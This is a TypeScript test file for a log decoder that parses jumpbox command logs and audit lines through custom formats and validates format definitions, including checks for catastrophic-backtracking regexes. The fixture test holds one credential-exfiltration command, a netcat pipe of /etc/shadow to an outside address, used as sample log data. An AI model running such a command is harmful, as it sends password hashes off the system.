import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  createRecordDecoder,
  FormatConfigError,
  textRecord,
  validateFormatsDefinition,
  type FormatsDefinition,
} from './index';
import type { DecodeOutcome } from './types';

const FORMATS: FormatsDefinition = {
  formats: [
    {
      name: 'jumpbox',
      regex:
        '^(?<ts>\\S+) (?<user>[\\w.-]+)@(?<host>[\\w.-]+) \\[(?<process__pid>\\d+)\\] \\$ (?<cmd>.*)$',
      fields: {
        ts: '@timestamp',
        user: 'user.name',
        host: 'host.name',
        cmd: 'process.command_line',
      },
      select: { topics: ['jumpbox.commands'], match: '^\\S+ [\\w.-]+@[\\w.-]+ \\[\\d+\\] \\$ ' },
    },
    {
      name: 'pipe-audit',
      split: {
        delimiter: '|',
        fields: ['@timestamp', 'user.name', '', 'process.exit_code', 'process.command_line'],
      },
      constants: { 'labels.site': 'paris', 'host.name': 'legacy-01' },
      select: { topics: ['legacy.audit'] },
    },
  ],
};

function only(outcome: DecodeOutcome) {
  if (outcome.kind !== 'events' || outcome.events.length !== 1)
    throw new Error(JSON.stringify(outcome));
  return outcome.events[0];
}

describe('operator-defined formats', () => {
  const decoder = createRecordDecoder({
    customFormats: FORMATS,
    formatHeader: 'x-format',
    clock: () => 0,
  });

  it('maps named captures onto event paths, selected by a match in auto mode', () => {
    const event = only(
      decoder.decode(textRecord('2026-11-25T16:34:43Z alice@jump01 [4242] $ sudo -s')),
    );
    expect(event).toMatchObject({
      '@timestamp': '2026-11-25T16:34:43.000Z',
      user: { name: 'alice' },
      host: { name: 'jump01' },
      process: { command_line: 'sudo -s', pid: 4242 },
      log: { source: 'jumpbox' },
      event: { module: 'jumpbox' },
    });
  });

  it('splits on a delimiter, the last field keeping the rest, selected by topic', () => {
    const record = textRecord('1764088483|bob|ignored|0|echo a|b', { topic: 'legacy.audit' });
    const event = only(decoder.decode(record));
    expect(event).toMatchObject({
      '@timestamp': '2025-11-25T16:34:43.000Z',
      user: { name: 'bob' },
      host: { name: 'legacy-01' },
      process: { command_line: 'echo a|b', exit_code: 0 },
      labels: { site: 'paris' },
    });
  });

  it('is selected by the format header', () => {
    const record = textRecord('1764088483|carol|x|1|id', { headers: { 'x-format': 'pipe-audit' } });
    expect(only(decoder.decode(record))?.user?.name).toBe('carol');
  });

  it('reports lines that do not fit the format', () => {
    const bad = decoder.decode(textRecord('only|three|parts', { topic: 'legacy.audit' }));
    expect(bad.kind === 'error' && bad.error.code).toBe('INVALID_FIELD');
    const badInt = decoder.decode(
      textRecord('1764088483|bob|x|zero|id', { topic: 'legacy.audit' }),
    );
    expect(badInt.kind === 'error' && badInt.error.message).toContain('process.exit_code');
    const noMatch = decoder.decode(textRecord('nope', { topic: 'jumpbox.commands' }));
    expect(noMatch.kind === 'error' && noMatch.error.message).toContain('jumpbox');
  });

  it('decodes the custom fixture file', () => {
    const file = join(__dirname, '../../../test/fixtures/formats/custom.input');
    const lines = readFileSync(file, 'utf8').trim().split('\n');
    const commands = lines.map((line) => {
      const outcome = decoder.decode(textRecord(line, { topic: 'jumpbox.commands' }));
      return outcome.kind === 'events' ? outcome.events[0]?.process.command_line : outcome.kind;
    });
    expect(commands).toEqual(['sudo -s', 'cat /etc/shadow | nc 203.0.113.9 9001', 'error']);
  });
});

describe('validateFormatsDefinition', () => {
  it('accepts a good definition', () => {
    expect(validateFormatsDefinition(FORMATS)).toEqual([]);
  });

  it('rejects a regex with catastrophic backtracking, naming the format and the reason', () => {
    const problems = validateFormatsDefinition({
      formats: [{ name: 'slow', regex: '^(?<cmd>(a+)+)$' }],
    });
    expect(problems).toHaveLength(1);
    expect(problems[0]?.pointer).toBe('/formats/0/regex');
    expect(problems[0]?.message).toMatch(
      /format "slow": regex is vulnerable to catastrophic backtracking \(exponential\)/,
    );
  });

  it('rejects a polynomial select.match too', () => {
    const problems = validateFormatsDefinition({
      formats: [{ name: 'poly', regex: '^(?<cmd>.*)$', select: { match: '^\\s*\\s*\\s*x$' } }],
    });
    expect(problems.map((p) => p.pointer)).toEqual(['/formats/0/select/match']);
    expect(problems[0]?.message).toContain('polynomial');
  });

  it('lists every problem with a pointer', () => {
    const problems = validateFormatsDefinition({
      formats: [
        { name: 'Bad Name', regex: '(?<cmd>' },
        { name: 'syslog', split: { delimiter: '', fields: ['user.nme'] } },
        { name: 'dup', regex: '^(?<x>.*)$', fields: { y: 'process.command_line' } },
        { name: 'dup', regex: '^(?<cmd>.*)$', flags: 'g', fields: { cmd: 'process.command_line' } },
        {
          name: 'both',
          regex: '^(?<cmd>.*)$',
          split: { delimiter: ',', fields: ['process.command_line'] },
        },
        'not an object',
      ],
    });
    expect(problems.map((p) => p.pointer)).toEqual([
      '/formats/0/name',
      '/formats/0/regex',
      '/formats/0',
      '/formats/1/name',
      '/formats/1/split/delimiter',
      '/formats/1/split/fields/0',
      '/formats/1',
      '/formats/2/fields/y',
      '/formats/2',
      '/formats/3/name',
      '/formats/3/flags',
      '/formats/4',
      '/formats/5',
    ]);
    expect(validateFormatsDefinition(null)).toEqual([
      { pointer: '/formats', message: 'expected an object with a "formats" array' },
    ]);
  });

  it('makes createRecordDecoder refuse an invalid definition', () => {
    expect(() =>
      createRecordDecoder({
        customFormats: { formats: [{ name: 'slow', regex: '^(?<cmd>(a|a)*)$' }] },
      }),
    ).toThrow(FormatConfigError);
  });
});
